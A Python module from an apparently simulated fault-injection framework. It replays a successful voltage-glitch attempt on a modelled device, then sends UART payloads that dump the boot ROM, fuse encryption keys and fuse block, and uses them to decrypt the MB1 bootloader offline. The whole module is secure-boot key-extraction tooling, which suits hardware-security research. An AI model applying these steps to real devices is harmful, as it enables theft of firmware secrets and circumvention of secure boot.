"""What happens after a successful glitch: dump the device, then decrypt MB1 offline."""

from __future__ import annotations

import random
import struct
from dataclasses import dataclass

from . import machine as mm
from . import payload as pl
from .boot import BootResult, run_boot, uart_download
from .crypto import engine as ce
from .firmware import BootImage
from .rail import GlitchPulse, RailConfig
from .rig import RigConfig
from .search import Attempt, derive_seed

IROM_DUMP_STEPS = 2_000_000


@dataclass(frozen=True)
class Extraction:
    irom: bytes
    fek_block: bytes
    fuse_block: bytes

    @property
    def fek1(self) -> bytes:
        return self.fek_block[:16]

    @property
    def fek2_testkey(self) -> bytes:
        return self.fek_block[16:32]

    def fuse(self, addr: int) -> int:
        off = addr - mm.FUSE_BASE
        return struct.unpack_from("<I", self.fuse_block, off)[0]

    def fek_source(self) -> ce.FekSource:
        return ce.FekSource(self.fek1, self.fuse(mm.FUSE_FEK2_SELECT_ADDR), self.fek2_testkey)


class ExtractionError(RuntimeError):
    pass


def replay_attempt(image: BootImage, rail: RailConfig, rig: RigConfig, seed: int,
                   attempt: Attempt) -> tuple[mm.Machine, BootResult]:
    """Rebuild the machine of a logged attempt, exactly as the campaign saw it."""
    jitter_seed = derive_seed(seed, attempt.worker, attempt.index, 1)
    delay = random.Random(jitter_seed).randint(0, rig.jitter_max_ns) if rig.jitter_max_ns else 0
    m = image.make_machine()
    pulse = GlitchPulse(attempt.offset_ns, attempt.length_ns)
    r = run_boot(m, image, pulse, rail, derive_seed(seed, attempt.worker, attempt.index, 0), start_ns=delay)
    return m, r


def _download(machine: mm.Machine, payload: pl.UartPayload, what: str, size: int) -> bytes:
    rep = uart_download(machine, payload.to_bytes(), max_steps=IROM_DUMP_STEPS)
    if not rep.accepted or len(rep.uart_output) != size:
        raise ExtractionError(f"{what} dump failed: accepted={rep.accepted} error={rep.error} "
                              f"got {len(rep.uart_output)} of {size} bytes, trap={rep.trap}")
    return rep.uart_output


def extract(machine: mm.Machine) -> Extraction:
    """Send the iROM, FEK and fuse dump payloads to a machine at the loader prompt."""
    irom = _download(machine, pl.build_dump_payload(mm.IROM_BASE, mm.IROM_SIZE), "iROM", mm.IROM_SIZE)
    feks = _download(machine, pl.build_fek_dump_payload(), "FEK", mm.FEK_BLOCK_SIZE)
    fuses = _download(machine, pl.build_fuse_dump_payload(), "fuse", mm.FUSE_BLOCK_SIZE)
    return Extraction(irom, feks, fuses)


def decrypt_captured_mb1(extraction: Extraction, mb1_image: bytes) -> bytes:
    """Redo the boot ROM's key handling offline with the dumped material.

    The key blob is the last 4 KiB of the captured iROM.
    """
    eng = ce.CryptoEngine()
    ce.load_feks(eng, extraction.fek_source())
    ce.decrypt_key_blob(eng, extraction.irom[-ce.KEY_BLOB_SIZE:])
    odm = bool(extraction.fuse(mm.FUSE_ODM_SECURE_ADDR))
    plaintext, _ = ce.decrypt_mb1(eng, mb1_image, odm)
    return plaintext
